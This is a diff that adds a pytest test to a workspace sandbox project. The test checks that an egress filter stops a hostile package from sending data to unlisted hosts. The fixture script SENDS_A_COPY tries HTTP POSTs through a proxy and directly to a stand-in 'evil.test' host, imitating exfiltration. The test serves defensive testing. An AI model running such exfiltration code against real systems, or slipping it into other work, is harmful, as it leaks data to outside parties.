@@ -10,13 +10,16 @@ from typing import Any, cast
 
 import pytest
 from tests.sandbox.conftest import GIT_ENVIRONMENT, KINDS, Repository
+from tests.web_access.upstream import Upstream, serving
 
 from callboard.domain.errors import CallboardError, ConfigurationInvalid
+from callboard.engine.command_hosts import read_command_hosts
 from callboard.ports.workspace import CommandRequest, FileRefused
 from callboard.sandbox.git.process import GitFailed
 from callboard.sandbox.workspaces import open_workspaces
 from callboard.testing.workspace.commands import sh
 from callboard.tools.run_terminal_command.tool import RunTerminalCommand, run_terminal_command
+from callboard.web_access.egress.command_way import CommandWayOut
 
 pytestmark = pytest.mark.anyio
 
@@ -300,3 +303,46 @@ async def test_claude_code_cve_2026_46406_temporary_places_are_private_and_canno
     assert len(places) == len(names) == 3
     assert all(place.startswith(str(tmp_path / "state")) for place in places)
     assert {(tmp_path / "state").stat().st_mode & 0o777} == {0o700}
+
+
+SENDS_A_COPY = """
+import socket, sys
+mail = b"POST http://{place}/ HTTP/1.1\\r\\nContent-Length: 4\\r\\n\\r\\nmail"
+for way in (("127.0.0.1", 3128), ("127.0.0.1", {port})):
+    for place in ("hub.test:{listed}", "evil.test:{port}", "127.0.0.1:{port}"):
+        try:
+            with socket.create_connection(way, 20) as out:
+                out.sendall(mail.replace(b"{place}", place.encode()))
+                print(place, out.recv(100).split()[1].decode())
+        except OSError:
+            pass
+"""
+
+
+@pytest.mark.parametrize("kind", KINDS)
+async def test_postmark_mcp_1_0_16_a_package_that_turns_hostile_sends_nothing_to_hosts_that_are_not_listed(
+    tmp_path, kind
+):
+    root = tmp_path / "workspace"
+    root.mkdir()
+
+    async def here(host, port):
+        return ("127.0.0.1",)
+
+    async with serving(Upstream()) as hub, serving(Upstream()) as evil:
+        hosts = read_command_hosts(f"hub.test:{hub.port},127.0.0.1:{hub.port}")
+        way_out = CommandWayOut(hosts, resolve=here)
+        script = SENDS_A_COPY.replace("{listed}", str(hub.port)).replace("{port}", str(evil.port))
+        (root / "package.py").write_text(script)
+        pythons = (sys.prefix, sys.base_prefix)
+        workspaces = open_workspaces(
+            tmp_path / "state", read_only=pythons, kinds=(kind,), way_out=way_out
+        )
+        opened = await workspaces.open(str(root))
+        result = await sh(opened.commands, "python package.py")
+        await opened.close()
+        assert evil.received == []
+        assert len(hub.received) == (1 if kind == "bubblewrap" else 0)
+    if kind == "bubblewrap":
+        for place in (f"evil.test:{evil.port}", f"127.0.0.1:{evil.port}"):
+            assert f"[network: refused {place}" in result.stderr
